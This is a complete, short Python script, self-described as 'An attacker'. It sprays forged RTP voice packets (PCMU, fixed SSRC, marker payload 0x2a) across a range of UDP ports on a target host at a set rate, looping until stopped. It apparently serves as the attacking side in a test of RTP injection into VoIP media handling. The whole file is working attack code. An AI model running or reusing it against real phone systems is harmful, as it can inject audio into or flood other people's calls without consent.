#!/usr/bin/env python3
"""An attacker: sends plausible RTP to a whole port range, round after round, until it is ended.

    sprayer.py OWN-ADDRESS TARGET FIRST-PORT LAST-PORT PACKETS-PER-SECOND
"""

import itertools
import socket
import struct
import sys
import time

MARK = b"\x2a"  # the payload's octet, by which its packets are told wherever they turn up
SSRC = 0x0badcafe


def packet(sequence):
    """A PCMU packet as a phone would send it."""
    head = struct.pack("!BBHII", 0x80, 0, sequence & 0xffff, sequence * 160 & 0xffffffff, SSRC)
    return head + MARK * 160


def main(own, target, first, last, rate):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((own, 0))
    ports = range(int(first), int(last) + 1)
    start, sent = time.monotonic(), 0
    for sequence in itertools.count():
        data = packet(sequence)
        for port in ports:
            try:
                sock.sendto(data, (target, port))
            except OSError:  # a refusal of an earlier packet
                pass
            sent += 1
            if sent % 100 == 0:
                time.sleep(max(0.0, start + sent / int(rate) - time.monotonic()))
        print("round", sequence, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
